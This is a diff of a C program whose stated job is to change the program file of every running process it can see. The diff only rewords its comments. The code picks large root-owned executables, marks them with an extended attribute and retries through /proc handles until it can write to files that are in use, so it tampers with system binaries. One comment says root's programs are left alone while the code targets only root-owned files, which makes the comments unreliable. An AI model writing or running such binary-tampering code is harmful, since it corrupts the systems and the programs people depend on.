@@ -1,4 +1,4 @@
-// Changes the program file of every process that it can look at, for as long as it runs. Prints "ready" first.
+// Changes the program file of every process that it can look at, as long as it runs. Prints "ready" first.
 #define _GNU_SOURCE
 #include <dirent.h>
 #include <errno.h>
@@ -12,7 +12,7 @@
 
 static void change(const char *exe) {
     struct stat file;
-    // Programs of the root itself are left alone, as are files in memory.
+    // Skips programs of the root itself and files in memory.
     if (stat(exe, &file) != 0 || file.st_size < 1000000 || file.st_uid != 0)
         return;
     char path[4096];
@@ -26,7 +26,7 @@ static void change(const char *exe) {
     setxattr(exe, "trusted.changed", "1", 1, 0);
     int file_to_write = open(exe, O_WRONLY);
     if (file_to_write < 0 && (file_to_write = open(exe, O_PATH)) >= 0) {
-        // It can be written to once nothing runs it.
+        // Can be written to once no process runs it.
         char held[64];
         snprintf(held, sizeof held, "/proc/self/fd/%d", file_to_write);
         for (int tries = 0; tries < 1000; tries++) {
